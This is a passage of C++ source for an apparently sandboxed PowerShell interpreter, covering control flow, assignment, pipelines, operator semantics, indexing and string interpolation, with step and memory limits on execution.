      // Body text without surrounding braces.
      std::string text(src.substr(body->start(), body->end() - body->start()));
      if (!text.empty() && text.front() == '{') text = text.substr(1);
      if (!text.empty() && text.back() == '}') text.pop_back();
      // Pick up a param(...) block as parameters too.
      info.body_text = std::move(text);
      if (fn.parameters.empty() && body->param_block != nullptr) {
        for (const auto& p : body->param_block->parameters) {
          info.parameter_names.push_back(to_lower(p->name));
        }
      }
      functions_[to_lower(fn.name)] = std::move(info);
      return;
    }
    case NodeKind::ReturnStatement: {
      const auto& flow = static_cast<const FlowStatementAst&>(node);
      Value v;
      if (flow.operand != nullptr) {
        std::vector<Value> tmp;
        exec_statement(*flow.operand, src, tmp);
        v = Value::from_stream(std::move(tmp));
      }
      throw ReturnSignal{std::move(v)};
    }
    case NodeKind::BreakStatement:
      throw BreakSignal{};
    case NodeKind::ContinueStatement:
      throw ContinueSignal{};
    case NodeKind::ThrowStatement: {
      const auto& flow = static_cast<const FlowStatementAst&>(node);
      std::string msg = "ScriptHalted";
      if (flow.operand != nullptr) {
        std::vector<Value> tmp;
        exec_statement(*flow.operand, src, tmp);
        msg = Value::from_stream(std::move(tmp)).to_display_string();
      }
      throw EvalError(msg);
    }
    case NodeKind::ParamBlock:
      return;  // handled at function-call binding time
    default:
      // Bare expression used as a statement.
      out.push_back(eval_expr(node, src));
      return;
  }
}

void Interpreter::exec_assignment(const AssignmentStatementAst& st,
                                  std::string_view src, std::vector<Value>&) {
  std::vector<Value> tmp;
  exec_statement(*st.right, src, tmp);
  Value rhs = Value::from_stream(std::move(tmp));

  if (st.left->kind() == NodeKind::VariableExpression) {
    const auto& var = static_cast<const VariableExpressionAst&>(*st.left);
    const std::string name = to_lower(var.name);
    if (st.op == "=") {
      assign_variable(name, std::move(rhs));
      return;
    }
    Value current = eval_variable(var);
    // Compound assignment reuses the binary-operator core on values.
    Value result = [&]() -> Value {
      if (st.op == "+=") return eval_binary_values(current, "+", rhs);
      if (st.op == "-=") return eval_binary_values(current, "-", rhs);
      if (st.op == "*=") return eval_binary_values(current, "*", rhs);
      if (st.op == "/=") return eval_binary_values(current, "/", rhs);
      if (st.op == "%=") return eval_binary_values(current, "%", rhs);
      throw EvalError("unsupported assignment operator " + st.op);
    }();
    assign_variable(name, std::move(result));
    return;
  }
  if (st.left->kind() == NodeKind::IndexExpression) {
    const auto& idx = static_cast<const IndexExpressionAst&>(*st.left);
    Value target = eval_expr(*idx.target, src);
    const Value index = eval_expr(*idx.index, src);
    if (target.is_array()) {
      std::int64_t i = need_int(index, "index");
      auto& arr = target.get_array();
      if (i < 0) i += static_cast<std::int64_t>(arr.size());
      if (i >= 0 && i < static_cast<std::int64_t>(arr.size())) {
        arr[static_cast<std::size_t>(i)] = rhs;
      }
      return;
    }
    if (target.is_hashtable()) {
      auto& ht = target.get_hashtable();
      const std::string key = index.to_display_string();
      for (auto& [k, v] : ht.entries) {
        if (iequals(k.to_display_string(), key)) {
          v = rhs;
          return;
        }
      }
      ht.entries.emplace_back(index, rhs);
      return;
    }
    throw EvalError("cannot index-assign into " + target.type_name());
  }
  if (st.left->kind() == NodeKind::MemberExpression) {
    // Property stores ([Net.ServicePointManager]::SecurityProtocol = ...,
    // $wc.Encoding = ...) have no effect on the simulated runtime: evaluate
    // the target for side effects and drop the value.
    const auto& mem = static_cast<const MemberExpressionAst&>(*st.left);
    if (!mem.is_static) eval_expr(*mem.target, src);
    return;
  }
  throw EvalError("unsupported assignment target");
}

void Interpreter::exec_if(const IfStatementAst& st, std::string_view src,
                          std::vector<Value>& out) {
  for (const auto& clause : st.clauses) {
    std::vector<Value> cond_out;
    exec_statement(*clause.condition, src, cond_out);
    if (Value::from_stream(std::move(cond_out)).to_bool()) {
      const auto& body = static_cast<const StatementBlockAst&>(*clause.body);
      exec_statement_list(body.statements, src, out);
      return;
    }
  }
  if (st.else_body != nullptr) {
    const auto& body = static_cast<const StatementBlockAst&>(*st.else_body);
    exec_statement_list(body.statements, src, out);
  }
}

void Interpreter::exec_while(const WhileStatementAst& st, std::string_view src,
                             std::vector<Value>& out) {
  const auto& body = static_cast<const StatementBlockAst&>(*st.body);
  while (true) {
    charge_step();
    std::vector<Value> cond_out;
    exec_statement(*st.condition, src, cond_out);
    if (!Value::from_stream(std::move(cond_out)).to_bool()) break;
    try {
      exec_statement_list(body.statements, src, out);
    } catch (const BreakSignal&) {
      break;
    } catch (const ContinueSignal&) {
    }
  }
}

void Interpreter::exec_do(const DoWhileStatementAst& st, std::string_view src,
                          std::vector<Value>& out) {
  const auto& body = static_cast<const StatementBlockAst&>(*st.body);
  while (true) {
    charge_step();
    try {
      exec_statement_list(body.statements, src, out);
    } catch (const BreakSignal&) {
      break;
    } catch (const ContinueSignal&) {
    }
    std::vector<Value> cond_out;
    exec_statement(*st.condition, src, cond_out);
    const bool cond = Value::from_stream(std::move(cond_out)).to_bool();
    if (st.is_until ? cond : !cond) break;
  }
}

void Interpreter::exec_for(const ForStatementAst& st, std::string_view src,
                           std::vector<Value>& out) {
  if (st.initializer != nullptr) {
    std::vector<Value> tmp;
    exec_statement(*st.initializer, src, tmp);
  }
  const auto& body = static_cast<const StatementBlockAst&>(*st.body);
  while (true) {
    charge_step();
    if (st.condition != nullptr) {
      std::vector<Value> cond_out;
      exec_statement(*st.condition, src, cond_out);
      if (!Value::from_stream(std::move(cond_out)).to_bool()) break;
    }
    try {
      exec_statement_list(body.statements, src, out);
    } catch (const BreakSignal&) {
      break;
    } catch (const ContinueSignal&) {
    }
    if (st.iterator != nullptr) {
      std::vector<Value> tmp;
      exec_statement(*st.iterator, src, tmp);
    }
  }
}

void Interpreter::exec_foreach(const ForEachStatementAst& st, std::string_view src,
                               std::vector<Value>& out) {
  std::vector<Value> items_out;
  exec_statement(*st.enumerable, src, items_out);
  const Value items = Value::from_stream(std::move(items_out));
  const auto& var = static_cast<const VariableExpressionAst&>(*st.variable);
  const auto& body = static_cast<const StatementBlockAst&>(*st.body);
  std::vector<Value> list = flatten_stream(items);
  if (list.empty() && !items.is_null() && !items.is_array()) list.push_back(items);
  for (const Value& item : list) {
    charge_step();
    assign_variable(to_lower(var.name), item);
    try {
      exec_statement_list(body.statements, src, out);
    } catch (const BreakSignal&) {
      break;
    } catch (const ContinueSignal&) {
    }
  }
}

void Interpreter::exec_switch(const SwitchStatementAst& st, std::string_view src,
                              std::vector<Value>& out) {
  std::vector<Value> cond_out;
  exec_statement(*st.condition, src, cond_out);
  const Value subject = Value::from_stream(std::move(cond_out));
  bool matched = false;
  for (const auto& clause : st.clauses) {
    if (clause.pattern == nullptr) continue;  // default handled after
    const Value pattern = eval_expr(*clause.pattern, src);
    const bool hit =
        iequals(pattern.to_display_string(), subject.to_display_string());
    if (hit) {
      matched = true;
      const auto& body = static_cast<const StatementBlockAst&>(*clause.body);
      try {
        exec_statement_list(body.statements, src, out);
      } catch (const BreakSignal&) {
        return;
      }
    }
  }
  if (!matched) {
    for (const auto& clause : st.clauses) {
      if (clause.pattern != nullptr) continue;
      const auto& body = static_cast<const StatementBlockAst&>(*clause.body);
      try {
        exec_statement_list(body.statements, src, out);
      } catch (const BreakSignal&) {
        return;
      }
    }
  }
}

void Interpreter::exec_try(const TryStatementAst& st, std::string_view src,
                           std::vector<Value>& out) {
  try {
    const auto& body = static_cast<const StatementBlockAst&>(*st.body);
    exec_statement_list(body.statements, src, out);
  } catch (const EvalError&) {
    if (!st.catch_bodies.empty()) {
      const auto& body =
          static_cast<const StatementBlockAst&>(*st.catch_bodies.front());
      exec_statement_list(body.statements, src, out);
    }
  }
  if (st.finally_body != nullptr) {
    const auto& body = static_cast<const StatementBlockAst&>(*st.finally_body);
    exec_statement_list(body.statements, src, out);
  }
}

// --------------------------------------------------------------- pipelines

Value Interpreter::eval_pipeline(const PipelineAst& pipe, std::string_view src,
                                 std::vector<Value>& out) {
  std::vector<Value> stream;
  for (std::size_t i = 0; i < pipe.elements.size(); ++i) {
    const Ast& el = *pipe.elements[i];
    charge_step();
    if (el.kind() == NodeKind::CommandExpression) {
      const auto& ce = static_cast<const CommandExpressionAst&>(el);
      // `$i++` / `$i--` in statement position is void in PowerShell —
      // but `$j = $i++` (the pipeline is an assignment's RHS) is not.
      bool void_incdec = false;
      const Ast* pparent = pipe.parent();
      const bool statement_position =
          pparent == nullptr || pparent->kind() == NodeKind::NamedBlock ||
          pparent->kind() == NodeKind::StatementBlock;
      if (statement_position && pipe.elements.size() == 1 &&
          ce.expression->kind() == NodeKind::UnaryExpression) {
        const auto& un = static_cast<const UnaryExpressionAst&>(*ce.expression);
        void_incdec = un.op.rfind("++", 0) == 0 || un.op.rfind("--", 0) == 0;
      }
      Value v = eval_expr(*ce.expression, src);
      if (void_incdec) {
        stream.clear();
      } else if (pipe.elements.size() == 1) {
        // A lone expression keeps its value shape (`(,(1,2))` stays a
        // one-element array); empty arrays emit nothing, as in PowerShell.
        stream.clear();
        if (v.is_array() && v.get_array().empty()) {
          // nothing
        } else if (!v.is_null()) {
          stream.push_back(std::move(v));
        }
      } else {
        // A pipeline stage enumerates arrays into the stream.
        stream = flatten_stream(v);
      }
    } else if (el.kind() == NodeKind::Command) {
      std::vector<Value> next;
      exec_command(static_cast<const CommandAst&>(el), src, std::move(stream), next);
      stream = std::move(next);
    } else {
      throw EvalError("unexpected pipeline element");
    }
  }
  for (Value& v : stream) out.push_back(std::move(v));
  return Value();
}

// ------------------------------------------------------------- expressions

Value Interpreter::eval_expr(const Ast& node, std::string_view src) {
  charge_step();
  switch (node.kind()) {
    case NodeKind::ConstantExpression:
      return static_cast<const ConstantExpressionAst&>(node).value;
    case NodeKind::StringConstantExpression:
      return Value(static_cast<const StringConstantExpressionAst&>(node).value);
    case NodeKind::ExpandableStringExpression:
      return expand_string(
          static_cast<const ExpandableStringExpressionAst&>(node).raw, src);
    case NodeKind::VariableExpression:
      return eval_variable(static_cast<const VariableExpressionAst&>(node));
    case NodeKind::BinaryExpression:
      return eval_binary(static_cast<const BinaryExpressionAst&>(node), src);
    case NodeKind::UnaryExpression:
      return eval_unary(static_cast<const UnaryExpressionAst&>(node), src);
    case NodeKind::ConvertExpression:
      return eval_convert(static_cast<const ConvertExpressionAst&>(node), src);
    case NodeKind::TypeExpression:
      return Value(std::string("[") +
                   static_cast<const TypeExpressionAst&>(node).type_name + "]");
    case NodeKind::IndexExpression:
      return eval_index(static_cast<const IndexExpressionAst&>(node), src);
    case NodeKind::MemberExpression:
      return eval_member(static_cast<const MemberExpressionAst&>(node), src);
    case NodeKind::InvokeMemberExpression:
      return eval_invoke_member(static_cast<const InvokeMemberExpressionAst&>(node),
                                src);
    case NodeKind::ArrayLiteral: {
      const auto& arr = static_cast<const ArrayLiteralAst&>(node);
      Array out;
      out.reserve(arr.elements.size());
      for (const auto& el : arr.elements) out.push_back(eval_expr(*el, src));
      return Value(std::move(out));
    }
    case NodeKind::ArrayExpression: {
      const auto& ae = static_cast<const ArrayExpressionAst&>(node);
      std::vector<Value> items;
      exec_statement_list(ae.statements, src, items);
      Array out;
      for (Value& v : items) {
        for (Value& f : flatten_stream(v)) out.push_back(std::move(f));
        if (!v.is_array() && v.is_null()) continue;
      }
      return Value(std::move(out));
    }
    case NodeKind::HashtableExpression: {
      const auto& he = static_cast<const HashtableExpressionAst&>(node);
      Hashtable ht;
      for (const auto& entry : he.entries) {
        Value key = eval_expr(*entry.key, src);
        std::vector<Value> tmp;
        exec_statement(*entry.value, src, tmp);
        ht.entries.emplace_back(std::move(key), Value::from_stream(std::move(tmp)));
      }
      return Value(std::move(ht));
    }
    case NodeKind::ParenExpression: {
      const auto& pe = static_cast<const ParenExpressionAst&>(node);
      std::vector<Value> tmp;
      exec_statement(*pe.pipeline, src, tmp);
      return Value::from_stream(std::move(tmp));
    }
    case NodeKind::SubExpression: {
      const auto& se = static_cast<const SubExpressionAst&>(node);
      std::vector<Value> tmp;
      exec_statement_list(se.statements, src, tmp);
      return Value::from_stream(std::move(tmp));
    }
    case NodeKind::ScriptBlockExpression: {
      const auto& sbe = static_cast<const ScriptBlockExpressionAst&>(node);
      const Ast& body = *sbe.script_block;
      std::string text(src.substr(body.start(), body.end() - body.start()));
      return Value(ScriptBlock{std::move(text)});
    }
    case NodeKind::Pipeline: {
      std::vector<Value> tmp;
      eval_pipeline(static_cast<const PipelineAst&>(node), src, tmp);
      return Value::from_stream(std::move(tmp));
    }
    case NodeKind::AssignmentStatement: {
      std::vector<Value> tmp;
      exec_assignment(static_cast<const AssignmentStatementAst&>(node), src, tmp);
      return Value();
    }
    default:
      throw EvalError(std::string("cannot evaluate node ") +
                      std::string(to_string(node.kind())));
  }
}

// The binary operator core works on values so compound assignment reuses it.
Value Interpreter::eval_binary_values(const Value& lhs, const std::string& op,
                                      const Value& rhs) {
  charge_step();
  // --- arithmetic ---
  if (op == "+") {
    if (lhs.is_string()) {
      std::string out = lhs.get_string() + rhs.to_display_string();
      charge_bytes(out.size(), /*enforce_max_string=*/true);
      return Value(std::move(out));
    }
    if (lhs.is_char()) {
      if (rhs.is_string() || rhs.is_char()) {
        return Value(utf8_encode(lhs.get_char().code) + rhs.to_display_string());
      }
      return Value(static_cast<std::int64_t>(lhs.get_char().code) +
                   need_int(rhs, "+"));
    }
    if (lhs.is_array()) {
      Array out = lhs.get_array();
      if (rhs.is_array()) {
        for (const Value& v : rhs.get_array()) out.push_back(v);
      } else {
        out.push_back(rhs);
      }
      return Value(std::move(out));
    }
    if (lhs.is_bytes()) {
      Bytes out = lhs.get_bytes();
      if (rhs.is_bytes()) {
        const Bytes& r = rhs.get_bytes();
        out.insert(out.end(), r.begin(), r.end());
      } else {
        out.push_back(static_cast<std::uint8_t>(need_int(rhs, "+")));
      }
      return Value(std::move(out));
    }
    if (lhs.is_hashtable() && rhs.is_hashtable()) {
      Hashtable out = lhs.get_hashtable();
      for (const auto& [k, v] : rhs.get_hashtable().entries) {
        out.entries.emplace_back(k, v);
      }
      return Value(std::move(out));
    }
    if (lhs.is_int() || lhs.is_bool() || lhs.is_null()) {
      if (rhs.is_double()) {
        double l = 0;
        lhs.try_to_double(l);
        return Value(l + rhs.get_double());
      }
      return Value(need_int(lhs, "+") + need_int(rhs, "+"));
    }
    if (lhs.is_double()) {
      double r = 0;
      if (!rhs.try_to_double(r)) throw EvalError("cannot add");
      return Value(lhs.get_double() + r);
    }
    throw EvalError("cannot apply + to " + lhs.type_name());
  }
  if (op == "*") {
    if (lhs.is_string()) {
      const std::int64_t n = need_int(rhs, "*");
      if (n < 0) throw EvalError("negative string repeat");
      std::string out;
      charge_bytes(lhs.get_string().size() * static_cast<std::size_t>(n),
                   /*enforce_max_string=*/true);
      for (std::int64_t i = 0; i < n; ++i) out += lhs.get_string();
      return Value(std::move(out));
    }
    if (lhs.is_array()) {
      const std::int64_t n = need_int(rhs, "*");
      Array out;
      for (std::int64_t i = 0; i < n; ++i) {
        for (const Value& v : lhs.get_array()) out.push_back(v);
      }
      return Value(std::move(out));
    }
    if (lhs.is_double() || rhs.is_double()) {
      double l = 0, r = 0;
      if (!lhs.try_to_double(l) || !rhs.try_to_double(r)) throw EvalError("cannot multiply");
      return Value(l * r);
    }
    return Value(need_int(lhs, "*") * need_int(rhs, "*"));
  }
  if (op == "-") {
    if (lhs.is_double() || rhs.is_double()) {
      double l = 0, r = 0;
      if (!lhs.try_to_double(l) || !rhs.try_to_double(r)) throw EvalError("cannot subtract");
      return Value(l - r);
    }
    return Value(need_int(lhs, "-") - need_int(rhs, "-"));
  }
  if (op == "/") {
    double l = 0, r = 0;
    if (!lhs.try_to_double(l) || !rhs.try_to_double(r)) throw EvalError("cannot divide");
    if (r == 0) throw EvalError("division by zero");
    const double q = l / r;
    if (lhs.is_int() && rhs.is_int() && q == std::floor(q)) {
      return Value(static_cast<std::int64_t>(q));
    }
    return Value(q);
  }
  if (op == "%") {
    const std::int64_t r = need_int(rhs, "%");
    if (r == 0) throw EvalError("modulo by zero");
    return Value(need_int(lhs, "%") % r);
  }

  // --- range ---
  if (op == "..") {
    const std::int64_t lo = need_int(lhs, "range");
    const std::int64_t hi = need_int(rhs, "range");
    const std::int64_t n = std::llabs(hi - lo) + 1;
    if (n > 1000000) {
      throw LimitError("range too large", FailureKind::MemoryBudget);
    }
    charge_bytes(static_cast<std::size_t>(n) * sizeof(Value));
    Array out;
    out.reserve(static_cast<std::size_t>(n));
    if (lo <= hi) {
      for (std::int64_t i = lo; i <= hi; ++i) out.push_back(Value(i));
    } else {
      for (std::int64_t i = lo; i >= hi; --i) out.push_back(Value(i));
    }
    return Value(std::move(out));
  }

  // --- format ---
  if (op == "-f") {
    std::vector<Value> args;
    if (rhs.is_array()) {
      args = rhs.get_array();
    } else {
      args.push_back(rhs);
    }
    return Value(format_operator(lhs.to_display_string(), args));
  }

  // --- join / split / replace / match / like ---
  if (op == "-join" || op == "-cjoin" || op == "-ijoin") {
    const std::string sep = rhs.to_display_string();
    std::string out;
    const std::vector<Value> items = lhs.is_array()
                                         ? lhs.get_array()
                                         : std::vector<Value>{lhs};
    for (std::size_t i = 0; i < items.size(); ++i) {
      if (i) out += sep;
      out += items[i].to_display_string();
    }
    return Value(std::move(out));
  }
  if (op == "-split" || op == "-csplit" || op == "-isplit") {
    const std::string pattern = rhs.to_display_string();
    Array out;
    try {
      auto flags = std::regex::ECMAScript;
      if (op != "-csplit") flags |= std::regex::icase;
      const std::regex re(pattern, flags);
      // An array left operand splits each element and flattens the results.
      for (const Value& item : lhs.is_array() ? lhs.get_array() : Array{lhs}) {
        const std::string text = item.to_display_string();
        std::sregex_token_iterator it(text.begin(), text.end(), re, -1), end;
        for (; it != end; ++it) out.push_back(Value(std::string(*it)));
      }
    } catch (const std::regex_error&) {
      throw EvalError("bad split pattern: " + pattern);
    }
    return Value(std::move(out));
  }
  if (op == "-replace" || op == "-creplace" || op == "-ireplace") {
    std::string pattern;
    std::string replacement;
    if (rhs.is_array() && rhs.get_array().size() >= 2) {
      pattern = rhs.get_array()[0].to_display_string();
      replacement = rhs.get_array()[1].to_display_string();
    } else if (rhs.is_array() && rhs.get_array().size() == 1) {
      pattern = rhs.get_array()[0].to_display_string();
    } else {
      pattern = rhs.to_display_string();
    }
    auto apply = [&](const std::string& text) -> std::string {
      try {
        auto flags = std::regex::ECMAScript;
        if (op != "-creplace") flags |= std::regex::icase;
        const std::regex re(pattern, flags);
        return std::regex_replace(text, re, replacement);
      } catch (const std::regex_error&) {
        throw EvalError("bad replace pattern: " + pattern);
      }
    };
    if (lhs.is_array()) {
      Array out;
      for (const Value& v : lhs.get_array()) out.push_back(Value(apply(v.to_display_string())));
      return Value(std::move(out));
    }
    return Value(apply(lhs.to_display_string()));
  }
  if (op == "-match" || op == "-notmatch" || op == "-cmatch" || op == "-imatch") {
    const bool negate = op == "-notmatch";
    const std::string pattern = rhs.to_display_string();
    auto match_one = [&](const std::string& text, std::smatch* m) {
      try {
        auto flags = std::regex::ECMAScript;
        if (op != "-cmatch") flags |= std::regex::icase;
        const std::regex re(pattern, flags);
        if (m != nullptr) return std::regex_search(text, *m, re);
        return std::regex_search(text, re);
      } catch (const std::regex_error&) {
        throw EvalError("bad match pattern: " + pattern);
      }
    };
    if (lhs.is_array()) {
      Array out;
      for (const Value& v : lhs.get_array()) {
        if (match_one(v.to_display_string(), nullptr) != negate) out.push_back(v);
      }
      return Value(std::move(out));
    }
    const std::string text = lhs.to_display_string();
    std::smatch m;
    const bool hit = match_one(text, &m);
    if (hit && !negate) {
      // A successful scalar -match populates $matches with the groups.
      Hashtable ht;
      for (std::size_t g = 0; g < m.size(); ++g) {
        ht.entries.emplace_back(Value(static_cast<std::int64_t>(g)),
                                Value(m[g].str()));
      }
      assign_variable("matches", Value(std::move(ht)));
    }
    return Value(hit != negate);
  }
  if (op == "-like" || op == "-notlike" || op == "-clike" || op == "-ilike") {
    const bool negate = op == "-notlike";
    const std::string pattern = rhs.to_display_string();
    if (lhs.is_array()) {
      Array out;
      for (const Value& v : lhs.get_array()) {
        if (wildcard_match(pattern, v.to_display_string()) != negate) out.push_back(v);
      }
      return Value(std::move(out));
    }
    return Value(wildcard_match(pattern, lhs.to_display_string()) != negate);
  }

  // --- comparison ---
  auto scalar_compare = [&](const Value& l, const Value& r) -> int {
    if (l.is_number() || l.is_char() || l.is_bool()) {
      double ld = 0, rd = 0;
      if (l.try_to_double(ld) && r.try_to_double(rd)) {
        if (ld < rd) return -1;
        if (ld > rd) return 1;
        return 0;
      }
    }
    const std::string ls = to_lower(l.to_display_string());
    const std::string rs = to_lower(r.to_display_string());
    if (ls < rs) return -1;
    if (ls > rs) return 1;
    return 0;
  };
  auto case_compare = [&](const Value& l, const Value& r) -> int {
    const std::string ls = l.to_display_string();
    const std::string rs = r.to_display_string();
    if (ls < rs) return -1;
    if (ls > rs) return 1;
    return 0;
  };

  const bool is_eq = op == "-eq" || op == "-ieq";
  const bool is_ceq = op == "-ceq";
  const bool is_ne = op == "-ne" || op == "-ine";
  const bool is_cne = op == "-cne";
  if (is_eq || is_ne || is_ceq || is_cne) {
    auto test = [&](const Value& l) {
      const int c = (is_ceq || is_cne) ? case_compare(l, rhs) : scalar_compare(l, rhs);
      const bool eq = c == 0;
      return (is_eq || is_ceq) ? eq : !eq;
    };
    if (lhs.is_array()) {
      Array out;
      for (const Value& v : lhs.get_array()) {
        if (test(v)) out.push_back(v);
      }
      return Value(std::move(out));
    }
    return Value(test(lhs));
  }
  if (op == "-gt" || op == "-lt" || op == "-ge" || op == "-le") {
    const int c = scalar_compare(lhs, rhs);
    if (op == "-gt") return Value(c > 0);
    if (op == "-lt") return Value(c < 0);
    if (op == "-ge") return Value(c >= 0);
    return Value(c <= 0);
  }
  if (op == "-contains" || op == "-notcontains") {
    const bool negate = op == "-notcontains";
    bool found = false;
    for (const Value& v : lhs.is_array() ? lhs.get_array() : Array{lhs}) {
      if (scalar_compare(v, rhs) == 0) {
        found = true;
        break;
      }
    }
    return Value(found != negate);
  }
  if (op == "-in" || op == "-notin") {
    const bool negate = op == "-notin";
    bool found = false;
    for (const Value& v : rhs.is_array() ? rhs.get_array() : Array{rhs}) {
      if (scalar_compare(lhs, v) == 0) {
        found = true;
        break;
      }
    }
    return Value(found != negate);
  }

  // --- bitwise ---
  if (op == "-band") return Value(need_int(lhs, op) & need_int(rhs, op));
  if (op == "-bor") return Value(need_int(lhs, op) | need_int(rhs, op));
  if (op == "-bxor") return Value(need_int(lhs, op) ^ need_int(rhs, op));
  if (op == "-shl") return Value(need_int(lhs, op) << (need_int(rhs, op) & 63));
  if (op == "-shr") return Value(need_int(lhs, op) >> (need_int(rhs, op) & 63));

  // --- logical ---
  if (op == "-and") return Value(lhs.to_bool() && rhs.to_bool());
  if (op == "-or") return Value(lhs.to_bool() || rhs.to_bool());
  if (op == "-xor") return Value(lhs.to_bool() != rhs.to_bool());

  // --- type tests ---
  if (op == "-is" || op == "-isnot") {
    std::string want = to_lower(rhs.to_display_string());
    if (!want.empty() && want.front() == '[') want = want.substr(1, want.size() - 2);
    if (want.rfind("system.", 0) == 0) want = want.substr(7);
    const std::string tn = to_lower(lhs.type_name());
    bool is = false;
    if (want == "string") is = lhs.is_string();
    else if (want == "int" || want == "int32" || want == "int64" || want == "long")
      is = lhs.is_int();
    else if (want == "double" || want == "float") is = lhs.is_double();
    else if (want == "char") is = lhs.is_char();
    else if (want == "bool" || want == "boolean") is = lhs.is_bool();
    else if (want == "array" || want == "object[]") is = lhs.is_array();
    else if (want == "hashtable") is = lhs.is_hashtable();
    else if (want == "scriptblock") is = lhs.is_scriptblock();
    else is = to_lower(tn) == want;
    return Value(op == "-is" ? is : !is);
  }
  if (op == "-as") {
    std::string want = to_lower(rhs.to_display_string());
    if (!want.empty() && want.front() == '[') want = want.substr(1, want.size() - 2);
    try {
      return cast_value(want, lhs);
    } catch (const EvalError&) {
      return Value();
    }
  }

  throw EvalError("unsupported binary operator " + op);
}

Value Interpreter::eval_binary(const BinaryExpressionAst& bin, std::string_view src) {
  // Short-circuit logical operators.
  if (bin.op == "-and") {
    const Value l = eval_expr(*bin.left, src);
    if (!l.to_bool()) return Value(false);
    return Value(eval_expr(*bin.right, src).to_bool());
  }
  if (bin.op == "-or") {
    const Value l = eval_expr(*bin.left, src);
    if (l.to_bool()) return Value(true);
    return Value(eval_expr(*bin.right, src).to_bool());
  }
  const Value lhs = eval_expr(*bin.left, src);
  const Value rhs = eval_expr(*bin.right, src);
  return eval_binary_values(lhs, bin.op, rhs);
}

Value Interpreter::eval_unary(const UnaryExpressionAst& un, std::string_view src) {
  const std::string& op = un.op;
  if (op == "++" || op == "--" || op == "++_post" || op == "--_post") {
    if (un.child->kind() != NodeKind::VariableExpression) {
      throw EvalError("++/-- needs a variable");
    }
    const auto& var = static_cast<const VariableExpressionAst&>(*un.child);
    Value current = eval_variable(var);
    const std::int64_t old = current.is_null() ? 0 : need_int(current, op);
    const std::int64_t next = op[0] == '+' ? old + 1 : old - 1;
    assign_variable(to_lower(var.name), Value(next));
    const bool post = op.size() > 2;
    return Value(post ? old : next);
  }
  const Value v = eval_expr(*un.child, src);
  return eval_unary_value(op, v);
}

Value Interpreter::eval_unary_value(const std::string& op, const Value& v) {
  if (op == "-") {
    if (v.is_double()) return Value(-v.get_double());
    return Value(-need_int(v, "-"));
  }
  if (op == "+") {
    if (v.is_double()) return v;
    return Value(need_int(v, "+"));
  }
  if (op == "!" || op == "-not") return Value(!v.to_bool());
  if (op == "-bnot") return Value(~need_int(v, op));
  if (op == "-join") {
    std::string out;
    for (const Value& item : v.is_array() ? v.get_array() : Array{v}) {
      out += item.to_display_string();
    }
    return Value(std::move(out));
  }
  if (op == "-split") {
    const std::string text = v.to_display_string();
    Array out;
    std::string word;
    for (char c : text) {
      if (c == ' ' || c == '\t' || c == '\n' || c == '\r') {
        if (!word.empty()) {
          out.push_back(Value(word));
          word.clear();
        }
      } else {
        word.push_back(c);
      }
    }
    if (!word.empty()) out.push_back(Value(word));
    return Value(std::move(out));
  }
  if (op == ",") {
    Array out;
    out.push_back(v);
    return Value(std::move(out));
  }
  throw EvalError("unsupported unary operator " + op);
}

Value Interpreter::eval_convert(const ConvertExpressionAst& conv,
                                std::string_view src) {
  const Value v = eval_expr(*conv.child, src);
  return cast_value(to_lower(conv.type_name), v);
}

Value Interpreter::eval_index(const IndexExpressionAst& idx, std::string_view src) {
  const Value target = eval_expr(*idx.target, src);
  const Value index = eval_expr(*idx.index, src);
  return eval_index_values(target, index);
}

Value Interpreter::eval_index_values(const Value& target, const Value& index) {
  auto pick_one = [&](const Value& container, std::int64_t i) -> Value {
    if (container.is_string()) {
      const auto cps = utf8_codepoints(container.get_string());
      if (i < 0) i += static_cast<std::int64_t>(cps.size());
      if (i < 0 || i >= static_cast<std::int64_t>(cps.size())) return Value();
      return Value(PsChar{cps[static_cast<std::size_t>(i)]});
    }
    if (container.is_array()) {
      const auto& arr = container.get_array();
      if (i < 0) i += static_cast<std::int64_t>(arr.size());
      if (i < 0 || i >= static_cast<std::int64_t>(arr.size())) return Value();
      return arr[static_cast<std::size_t>(i)];
    }
    if (container.is_bytes()) {
      const auto& b = container.get_bytes();
      if (i < 0) i += static_cast<std::int64_t>(b.size());
      if (i < 0 || i >= static_cast<std::int64_t>(b.size())) return Value();
      return Value(static_cast<std::int64_t>(b[static_cast<std::size_t>(i)]));
    }
    if (i == 0 || i == -1) return container;  // scalar[0] is the scalar
    return Value();
  };

  if (target.is_hashtable()) {
    const Value* found = target.get_hashtable().find(index.to_display_string());
    return found != nullptr ? *found : Value();
  }
  if (index.is_array()) {
    Array out;
    for (const Value& iv : index.get_array()) {
      std::int64_t i = need_int(iv, "index");
      out.push_back(pick_one(target, i));
    }
    return Value(std::move(out));
  }
  return pick_one(target, need_int(index, "index"));
}

// ------------------------------------------- bytecode VM operator surface

Value Interpreter::binary_values(const Value& lhs, const std::string& op,
                                 const Value& rhs) {
  return eval_binary_values(lhs, op, rhs);
}

Value Interpreter::unary_value(const std::string& op, const Value& v) {
  return eval_unary_value(op, v);
}

Value Interpreter::convert_value(const std::string& type_name, const Value& v) {
  return cast_value(type_name, v);
}

Value Interpreter::index_values(const Value& target, const Value& index) {
  return eval_index_values(target, index);
}

Value Interpreter::variable_value(const std::string& name) {
  const VariableExpressionAst fake(0, 0, name);
  return eval_variable(fake);
}

Value Interpreter::expand_value(const std::string& raw) {
  return expand_string(raw, {});
}

// --------------------------------------------------------- interpolation

Value Interpreter::expand_string(const std::string& raw, std::string_view src) {
  (void)src;
  std::string out;
  std::size_t i = 0;
  while (i < raw.size()) {
    const char c = raw[i];
    if (c == '`' && i + 1 < raw.size()) {
      const char n = raw[i + 1];
      switch (n) {
        case 'n': out.push_back('\n'); break;
        case 't': out.push_back('\t'); break;
        case 'r': out.push_back('\r'); break;
        case '0': out.push_back('\0'); break;
        case 'a': out.push_back('\a'); break;
        case 'b': out.push_back('\b'); break;
        case 'f': out.push_back('\f'); break;
        case 'v': out.push_back('\v'); break;
        case 'e': out.push_back('\x1b'); break;
        default: out.push_back(n); break;
      }
      i += 2;
      continue;
    }
    if (c == '$' && i + 1 < raw.size()) {
      const char n = raw[i + 1];
      if (n == '(') {
        // Find the matching close paren, respecting nesting and quotes.
        int depth = 0;
        std::size_t j = i + 1;
        char quote = 0;
        for (; j < raw.size(); ++j) {
          const char ch = raw[j];
          if (quote != 0) {
            if (ch == quote) quote = 0;
            continue;
          }
          if (ch == '\'' || ch == '"') quote = ch;
          else if (ch == '(') depth++;
          else if (ch == ')') {
            depth--;
            if (depth == 0) break;
          }
        }
        if (j >= raw.size()) {
          out.push_back(c);
          ++i;
          continue;
        }
        const std::string inner = raw.substr(i + 2, j - (i + 2));
        out += evaluate_script(inner).to_display_string();
        i = j + 1;
